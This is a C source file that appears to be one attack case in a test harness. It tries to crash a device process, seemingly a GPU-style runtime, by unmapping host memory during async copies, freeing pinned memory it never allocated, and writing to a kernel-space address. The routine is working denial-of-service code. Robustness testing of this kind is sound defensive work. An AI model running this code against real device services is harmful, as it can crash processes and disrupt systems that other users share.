/* Tries to have the device process read and write memory that does not exist, or disappears while it is copied.
 * Gains a crash of the device process. */
#include "parts/wire.h"

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    lab_array *array;
    lab_stream *stream;
    LAB_TRY(lab_array_empty(&array, LAB_UINT8, LAB_SHAPE(1 << 20)));
    LAB_TRY(lab_stream_create(&stream, LAB_STREAM_NON_BLOCKING));
    for (int i = 0; i < 20; i++) {
        char *memory = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (lab_host_register(memory, 1 << 20)) break;
        lab_array_set_async(array, memory, stream);
        munmap(memory + (1 << 19), 1 << 19);
        lab_array_get_async(array, memory, stream);
        lab_stream_synchronize(stream);
        lab_host_unregister(memory);
    }
    w_range window[8];
    if (w_maps("memfd:lab pinned", window, 8) > 0) { /* pinned memory that was not allocated */
        lab_array_set(array, (void *)(window[0].end - 4096));
        lab_array_get(array, (void *)(window[0].end - (1 << 20)));
        lab_host_free((void *)(window[0].begin + 4096));
        lab_host_free((void *)(window[0].begin + 8192 * 4096ul));
    }
    lab_array_set(array, (void *)0xffff800000000000);
    return LAB_SUCCESS;
}
